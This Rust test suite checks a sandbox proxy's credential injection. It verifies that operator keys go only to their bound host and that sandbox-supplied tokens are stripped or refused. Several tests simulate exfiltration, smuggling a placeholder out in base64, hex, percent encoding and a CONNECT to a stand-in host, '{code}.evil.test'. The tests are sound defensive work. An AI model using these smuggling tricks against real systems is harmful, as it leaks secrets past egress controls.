//! Whose account a request uses (P11): each form puts ours where it belongs, no credential of the sandbox's own reaches a
//! host that gets one of ours, and placeholders go nowhere but where they are replaced.

use std::fs;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;
use tempfile::TempDir;

use crate::handshake::{OriginCa, client_config, tls_handshake};
use crate::http2_origin::Http2Origin;
use crate::instance::{InstanceSetup, SandbarInstance};
use crate::origin::ScriptedOrigin;
use crate::strict_http::StrictRequest;
use crate::wire::RawResponse;

const KEY: &str = "sk-live-0123456789abcdef";
const OTHER_KEY: &str = "app-9876543210fedcba";

/// Two origins: `a.test` gets credentials, `b.test` none.
struct AccountScene {
    world: SandbarInstance,
    bound: ScriptedOrigin,
    other: ScriptedOrigin,
    _secrets: TempDir,
}

impl AccountScene {
    /// `credentials` and `policy` are TOML in which `A` and `B` stand for the origins, and `FILE` and `FILE2` for keys.
    fn start(credentials: &str, policy: &str) -> Self {
        let root = OriginCa::new();
        let bound = ScriptedOrigin::start_tls(root.server_config("a.test"));
        let other = ScriptedOrigin::start_tls(root.server_config("b.test"));
        let secrets = tempfile::tempdir().unwrap();
        for (name, value) in [("key", KEY), ("other", OTHER_KEY)] {
            integration::write_secret(&secrets.path().join(name), value);
        }
        let fill = |text: &str| {
            text.replace("\"A\"", &format!("\"a.test:{}\"", bound.port()))
                .replace("\"B\"", &format!("\"b.test:{}\"", other.port()))
                .replace("FILE2", &secrets.path().join("other").display().to_string())
                .replace("FILE", &secrets.path().join("key").display().to_string())
                .replace("[[allow]]", "[[allow]]\nresolves_to = [\"127.0.0.0/8\"]")
        };
        let (tables, policy) = (fill(credentials), fill(policy));
        let plan =
            InstanceSetup { policy, tables, hosts: vec!["a.test", "b.test"], ..InstanceSetup::default() };
        AccountScene { world: plan.with_roots(root.pem()).start(), bound, other, _secrets: secrets }
    }

    /// One credential in this form, for `POST /v1/**` of `a.test`; every `GET` is allowed without.
    fn with_form(form: &str, more: &str) -> Self {
        AccountScene::start(
            &format!("[[credential]]\nname = \"key\"\nfile = \"FILE\"\nhosts = [\"A\"]\n{form}\n"),
            &format!(
                "[[allow]]\nname = \"model\"\nhosts = [\"A\"]\nmethods = [\"POST\"]\npaths = [\"/v1/**\"]\n\
                 credential = \"key\"\n{more}\n\
                 [[allow]]\nname = \"open\"\nhosts = [\"A\", \"B\"]\nmethods = [\"GET\"]\n"
            ),
        )
    }

    fn send(&self, host: &str, method: &str, target: &str, fields: &str, body: &str) -> RawResponse {
        let origin = if host == "a.test" { &self.bound } else { &self.other };
        let config = client_config(&self.world, "http/1.1");
        let mut wire = tls_handshake(self.world.open_tunnel(host, origin.port()), &config, host).unwrap();
        let length =
            if method == "GET" { String::new() } else { format!("Content-Length: {}\r\n", body.len()) };
        wire.send(format!(
            "{method} {target} HTTP/1.1\r\nHost: {host}:{}\r\n{length}{fields}\r\n{body}",
            origin.port()
        ));
        wire.read_response(method).unwrap()
    }

    /// Sends a request that gets the credential, and returns what the origin received.
    fn post(&self, target: &str, fields: &str) -> StrictRequest {
        let answer = self.send("a.test", "POST", target, fields, "");
        assert_eq!(answer.status, 200, "{target} {fields}: {}", answer.text());
        self.bound.requests().pop().unwrap()
    }

    fn received(&self) -> usize {
        self.bound.requests().len() + self.other.requests().len()
    }

    /// Sends a request that is refused with this code before anything reaches an origin.
    fn assert_refused(&self, what: &str, host: &str, method: &str, target: &str, fields: &str, code: &str) {
        let before = self.received();
        let answer = self.send(host, method, target, fields, "");
        self.world.assert_refused(what, &answer, 403, code);
        assert_eq!(self.received(), before, "{what}: it reached an origin");
    }

    /// The placeholder of a credential in the first sandbox.
    fn placeholder(&self, credential: &str, prefix: &str) -> String {
        let said = self.world.run_command(&[
            "secret",
            "placeholder",
            "--sandbox",
            "one",
            "--prefix",
            prefix,
            credential,
        ]);
        said.trim().to_owned()
    }

    fn log_text(&self) -> String {
        self.world.records().iter().map(Value::to_string).collect()
    }
}

fn values<'a>(request: &'a StrictRequest, name: &str) -> Vec<&'a str> {
    let named = request.fields.iter().filter(|(known, _)| known.eq_ignore_ascii_case(name));
    named.map(|(_, value)| value.as_str()).collect()
}

/// Places in which a sandbox can show an account of its own: target and fields, each with `mine`.
const OTHER_ACCOUNTS: [(&str, &str); 22] = [
    ("/v1/x", "Authorization: Bearer mine\r\n"),
    ("/v1/x", "Proxy-Authorization: Basic mine\r\nX-Auth-Token: mine\r\n"),
    ("/v1/x", "Api-Key: mine\r\n"),
    ("/v1/x", "X_Access_Token: mine\r\n"),
    ("/v1/x", "X-Goog-Api-Key: mine\r\n"),
    ("/v1/x", "Private-Token: mine\r\n"),
    ("/v1/x", "Job-Token: mine\r\n"),
    ("/v1/x", "Cookie: session=mine\r\n"),
    ("/v1/x", "Cookie: __cf_bm=1; sid=mine\r\n"),
    ("/v1/x", "OpenAI-Organization: org-mine\r\n"),
    ("/v1/x", "OpenAI-Project: mine\r\n"),
    ("/v1/x", "X-Amz-Security-Token: mine\r\n"),
    ("/v1/x", "DD-Api-Key: mine\r\n"),
    ("/v1/x", "X-My-Authorization: mine\r\n"),
    ("/v1/x", "X-Client-Secret: mine\r\n"),
    ("/v1/x", "Sec-WebSocket-Protocol: chat, openai-insecure-api-key.mine\r\n"),
    ("/v1/x?key=mine", ""),
    ("/v1/x?a=1&access_token=mine", ""),
    ("/v1/x?%61pi%5Fk%65y=mine&b=2", ""),
    ("/v1/x?KEY[]=mine", ""),
    ("/v1/x?a=1;token=mine", ""),
    ("/v1/x?X-Amz-Credential=mine&X-Amz-Signature=mine", ""),
];

const HONEST: &str = "Anthropic-Version: 2023-06-01\r\nIdempotency-Key: k1\r\nX-Stainless-Lang: python\r\nX-Csrf-Token: t1\r\n";

// proves: credential.form.header
#[test]
fn p11_no_other_account_reaches_a_host_that_gets_ours() {
    let scene = AccountScene::with_form("form = { header = \"x-api-key\" }", "");
    for (target, fields) in OTHER_ACCOUNTS {
        let request = scene.post(target, &format!("X-Api-Key: mine\r\nx_api_key: mine\r\n{fields}{HONEST}"));
        let shown = format!("{} {:?}", request.target, request.fields);
        assert!(!shown.contains("mine"), "{target} {fields}: {shown}");
        assert_eq!(values(&request, "x-api-key"), [KEY], "{target} {fields}");
        for honest in ["anthropic-version", "idempotency-key", "x-stainless-lang", "x-csrf-token"] {
            assert_eq!(values(&request, honest).len(), 1, "{honest} is left alone");
        }
    }
    assert_eq!(
        scene.post("/v1/x?a=1&key=mine&model=m", "").target,
        "/v1/x?a=1&model=m",
        "the rest of a query passes"
    );
    // Another rule of the host injects nothing, and takes no other account either.
    for (target, fields) in [("/z?key=mine", "X-Api-Key: mine\r\n"), ("/z", "Authorization: Bearer mine\r\n")]
    {
        assert_eq!(scene.send("a.test", "GET", target, fields, "").status, 200);
        let shown = format!("{:?}", scene.bound.requests().pop().unwrap());
        assert!(!shown.contains("mine") && !shown.contains(KEY), "{shown}");
    }
    assert_eq!(scene.send("b.test", "GET", "/?key=mine", "X-Api-Key: mine\r\n", "").status, 200);
    let elsewhere = format!("{:?}", scene.other.requests().pop().unwrap());
    assert_eq!(elsewhere.matches("mine").count(), 2, "a host without a credential of ours: {elsewhere}");
    assert!(!scene.log_text().contains(KEY));
}

// proves: allow.pin_account
#[test]
fn p11_other_accounts_are_refused_where_the_rule_says_so() {
    let scene = AccountScene::with_form("form = { header = \"x-api-key\" }", "pin_account = \"refuse\"");
    for (target, fields) in OTHER_ACCOUNTS {
        let answer = scene.send("a.test", "POST", target, fields, "");
        scene.world.assert_refused(fields, &answer, 403, "other_account");
        assert!(!answer.text().contains("mine"), "{}", answer.text());
        assert!(scene.bound.requests().is_empty(), "{target} {fields}: it reached the origin");
    }
    let request = scene.post("/v1/x?a=1", &format!("X-Api-Key: dummy\r\nCookie: __cf_bm=1\r\n{HONEST}"));
    assert_eq!((values(&request, "x-api-key"), values(&request, "cookie").len()), (vec![KEY], 0));
    let placeholder = scene.placeholder("key", "sk-");
    let request = scene.post("/v1/x", &format!("Authorization: Bearer {placeholder}\r\n"));
    assert_eq!(values(&request, "authorization").len(), 0, "the placeholder of ours is no other account");

    let scene = AccountScene::with_form("form = { header = \"x-api-key\" }", "pin_account = \"off\"");
    let request =
        scene.post("/v1/x?key=mine", "X-Api-Key: theirs\r\nX-Auth-Token: mine\r\nCookie: c=mine\r\n");
    assert_eq!(values(&request, "x-api-key"), [KEY], "the form's own field is ours all the same");
    assert_eq!(request.target, "/v1/x?key=mine");
    assert_eq!(
        (values(&request, "x-auth-token"), values(&request, "cookie")),
        (vec!["mine"], vec!["c=mine"])
    );
}

// proves: credential.form.prefix, credential.form.basic.user, credential.form.dangerously_query
#[test]
fn p11_each_form_puts_the_value_where_it_belongs() {
    let basic = format!("Basic {}", STANDARD.encode(format!("x-access-token:{KEY}")));
    for (form, target, name, value) in [
        ("", "/v1/x", "authorization", format!("Bearer {KEY}")),
        ("form = \"bearer\"", "/v1/x", "authorization", format!("Bearer {KEY}")),
        ("form = { header = \"X-Key\" }", "/v1/x", "x-key", KEY.to_owned()),
        (
            "form = { header = \"authorization\", prefix = \"token \" }",
            "/v1/x",
            "authorization",
            format!("token {KEY}"),
        ),
        ("form = { basic = { user = \"x-access-token\" } }", "/v1/x", "authorization", basic),
    ] {
        let scene = AccountScene::with_form(form, "");
        let request =
            scene.post(target, &format!("Authorization: Basic bWluZTptaW5l\r\n{name}: mine\r\n{HONEST}"));
        assert_eq!(values(&request, name), [value.as_str()], "{form}");
        scene.world.wait_for_record(0, "the name is recorded", |record| {
            record["unmapped"]["sandbar"]["credential"] == "key"
        });
        assert!(!scene.log_text().contains(KEY), "{form}");
    }
    let scene = AccountScene::with_form("form = { dangerously_query = \"key\" }", "");
    for (target, expected) in [
        ("/v1/x", format!("/v1/x?key={KEY}")),
        ("/v1/x?a=1&KEY=mine&k%65y=mine&b=2", format!("/v1/x?a=1&b=2&key={KEY}")),
    ] {
        assert_eq!(scene.post(target, "").target, expected);
    }
    assert!(!scene.log_text().contains(KEY), "the query that leaves is in no record");
}

// proves: allow.credentials
#[test]
fn p11_several_credentials_go_together_or_not_at_all() {
    let scene = AccountScene::start(
        "[[credential]]\nname = \"api\"\nfile = \"FILE\"\nhosts = [\"A\"]\nform = { header = \"dd-api-key\" }\n\
         [[credential]]\nname = \"app\"\nfile = \"FILE2\"\nhosts = [\"A\"]\nform = { header = \"dd-application-key\" }\n",
        "[[allow]]\nname = \"metrics\"\nhosts = [\"A\"]\nmethods = [\"POST\"]\ncredentials = [\"app\", \"api\"]\n",
    );
    let request = scene.post("/v1/x", "DD-Api-Key: mine\r\nDD-Application-Key: mine\r\n");
    assert_eq!(
        (values(&request, "dd-api-key"), values(&request, "dd-application-key")),
        (vec![KEY], vec![OTHER_KEY])
    );
    scene.world.wait_for_record(0, "both are recorded", |record| {
        record["unmapped"]["sandbar"]["credential"] == "api,app"
    });
    let before = scene.received();
    fs::remove_file(scene._secrets.path().join("other")).unwrap();
    crate::instance::wait_until("the file is missed", || {
        scene.send("a.test", "POST", "/v1/x", "", "").status == 502
    });
    let after = scene.received();
    let answer = scene.send("a.test", "POST", "/v1/x", "", "");
    scene.world.assert_refused("one is missing", &answer, 502, "credential_unavailable");
    assert!(scene.world.record_says(&answer, "credential `app`"));
    assert!(scene.received() == after && after >= before, "no request left with one of two");
}

// proves: credential.form.placeholder.in, credential.form.placeholder.prefix
#[test]
fn p11_a_placeholder_is_replaced_in_its_place_and_refused_elsewhere() {
    let form = "form = { placeholder = { in = [\"header:authorization\", \"header:x-api-key\"], prefix = \"sk-\" } }";
    let scene = AccountScene::with_form(form, "");
    let placeholder = scene.placeholder("key", "sk-");
    assert!(placeholder.starts_with("sk-sbxph") && placeholder.len() == 34, "{placeholder}");
    let basic = |text: &str| format!("Basic {}", STANDARD.encode(text));
    for (fields, name, value) in [
        (format!("Authorization: Bearer {placeholder}\r\n"), "authorization", format!("Bearer {KEY}")),
        (format!("X-Api-Key: {placeholder}\r\n"), "x-api-key", KEY.to_owned()),
        (
            format!("Authorization: {}\r\n", basic(&format!("git:{placeholder}"))),
            "authorization",
            basic(&format!("git:{KEY}")),
        ),
    ] {
        let request = scene.post("/v1/x", &fields);
        assert_eq!(values(&request, name), [value.as_str()], "{fields}");
    }
    let request = scene.post("/v1/x", "Authorization: Bearer mine\r\n");
    assert_eq!(values(&request, "authorization").len(), 0, "without a placeholder it leaves without ours");

    let code = placeholder.strip_prefix("sk-").unwrap();
    let percent: String = code.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let hex: String = code.bytes().map(|byte| format!("{byte:02x}")).collect();
    let own = format!("Authorization: Bearer {placeholder}\r\n");
    for (what, host, method, target, fields) in [
        ("another host", "b.test", "GET", "/x".to_owned(), own.clone()),
        ("another rule of the host", "a.test", "GET", "/x".to_owned(), format!("X-Note: {placeholder}\r\n")),
        ("an unlisted field", "a.test", "POST", "/v1/x".to_owned(), format!("X-Note: {placeholder}\r\n")),
        ("upper case", "a.test", "POST", "/v1/x".to_owned(), format!("X-Note: {}\r\n", code.to_uppercase())),
        (
            "base64",
            "a.test",
            "POST",
            "/v1/x".to_owned(),
            format!("X-Note: {}\r\n", STANDARD.encode(&placeholder)),
        ),
        ("hex", "a.test", "POST", "/v1/x".to_owned(), format!("X-Note: {hex}\r\n")),
        ("the path", "a.test", "POST", format!("/v1/{code}"), String::new()),
        ("the query", "a.test", "POST", format!("/v1/x?q={code}"), String::new()),
        ("percent encoding", "a.test", "POST", format!("/v1/x?q={percent}"), String::new()),
        (
            "beside another",
            "a.test",
            "POST",
            "/v1/x".to_owned(),
            format!("{own}Authorization: Bearer mine\r\n"),
        ),
        (
            "in a list",
            "a.test",
            "POST",
            "/v1/x".to_owned(),
            format!("Authorization: Bearer {placeholder}, x\r\n"),
        ),
        (
            "of another sandbox",
            "a.test",
            "POST",
            "/v1/x".to_owned(),
            own.replace(code, &format!("sbxph{}", "a2".repeat(13))),
        ),
    ] {
        // Under the credential's own rule a placeholder of another sandbox is a credential of another account.
        let removed = what == "of another sandbox";
        if removed {
            let request = scene.post(&target, &fields);
            assert_eq!(values(&request, "authorization").len(), 0, "{what}");
            continue;
        }
        let since = scene.world.record_count();
        scene.assert_refused(what, host, method, &target, &fields, "placeholder_misused");
        scene.world.wait_for_record(since, what, |record| {
            record["class_uid"] == 2004 && record["finding_info"]["types"][0] == "placeholder_misused"
        });
    }
    for (what, body) in [
        ("body", format!("{{\"key\": \"{placeholder}\"}}")),
        (
            "base64 body",
            format!("{{\"key\": \"{}\"}}", STANDARD.encode(format!("{{\"k\":\"{placeholder}\"}}"))),
        ),
    ] {
        let before = scene.bound.requests().len();
        let answer = scene.send("a.test", "POST", "/v1/x", &own, &body);
        scene.world.assert_refused(what, &answer, 403, "placeholder_misused");
        assert_eq!(scene.bound.requests().len(), before, "{what}");
    }
    let mut wire = scene.world.connect();
    wire.send(format!("CONNECT {code}.evil.test:443 HTTP/1.1\r\nHost: {code}.evil.test:443\r\n\r\n"));
    let since = scene.world.record_count();
    let answer = wire.read_response("CONNECT").unwrap();
    assert_eq!(answer.status, 403);
    drop(since);
    scene.world.wait_for_record(0, "in a name", |record| {
        record["finding_info"]["types"][0] == "placeholder_misused"
            && record["message"].as_str().is_some_and(|said| said.contains("host name"))
    });
    assert!(!scene.log_text().contains(KEY) && !scene.log_text().contains(&placeholder));
}

#[test]
fn p11_connections_to_the_origin_are_not_shared_between_accounts() {
    let scene = AccountScene::with_form("", "");
    scene.post("/v1/x", "");
    assert_eq!(scene.send("a.test", "GET", "/x", "", "").status, 200);
    scene.post("/v1/x", "");
    let connections: Vec<usize> = scene.bound.numbered_requests().into_iter().map(|(at, _)| at).collect();
    let [first, plain, last] = connections[..] else { panic!("{connections:?}") };
    assert!(first != plain && plain != last, "{connections:?}: an origin may authenticate a connection");
}

#[test]
fn p11_upgrades_and_http2_get_the_same() {
    let scene = AccountScene::start(
        "[[credential]]\nname = \"key\"\nfile = \"FILE\"\nhosts = [\"A\"]\nform = { header = \"x-api-key\" }\n",
        "[[allow]]\nname = \"all\"\nhosts = [\"A\"]\ncredential = \"key\"\n",
    );
    let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                   Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Api-Key: mine\r\nCookie: c=mine\r\n\
                   Sec-WebSocket-Protocol: chat, bearer.mine\r\n";
    assert_eq!(scene.send("a.test", "GET", "/ws?token=mine", upgrade, "").status, 200);
    let request = scene.bound.requests().pop().unwrap();
    assert_eq!(values(&request, "x-api-key"), [KEY]);
    assert_eq!(values(&request, "sec-websocket-protocol"), ["chat"]);
    assert!(!format!("{request:?}").contains("mine"), "{request:?}");

    let root = OriginCa::new();
    let origin = Http2Origin::start(&root, "a.test");
    let secrets = tempfile::tempdir().unwrap();
    integration::write_secret(&secrets.path().join("key"), KEY);
    let tables = format!(
        "[[credential]]\nname = \"key\"\nfile = \"{}\"\nhosts = [\"a.test:{}\"]\nform = {{ header = \"x-api-key\" }}\n",
        secrets.path().join("key").display(),
        origin.port
    );
    let policy = format!(
        "[[allow]]\nname = \"all\"\nhosts = [\"a.test:{}\"]\ncredential = \"key\"\nresolves_to = [\"127.0.0.0/8\"]\n",
        origin.port
    );
    let plan = InstanceSetup { policy, tables, hosts: vec!["a.test"], ..InstanceSetup::default() };
    let world = plan.with_roots(root.pem()).start();
    for version in ["--http2", "--http1.1"] {
        let done = std::process::Command::new("curl")
            .args(["--silent", "--show-error", "--max-time", "30", version, "--output", "/dev/null"])
            .arg("--proxy")
            .arg(format!("http://{}", world.listeners[0]))
            .arg("--cacert")
            .arg(world.ca_path())
            .args(["-H", "X-Api-Key: mine", "-H", "Authorization: Bearer mine", "-H", "Cookie: c=mine"])
            .arg(format!("https://a.test:{}/v1?api_key=mine&b=1", origin.port))
            .output()
            .unwrap();
        assert!(done.status.success(), "{version}: {}", String::from_utf8_lossy(&done.stderr));
        let request = origin.requests().pop().unwrap().to_string();
        assert!(
            !request.contains("mine") && request.contains(KEY) && request.contains("/v1?b=1"),
            "{version}: {request}"
        );
    }
}
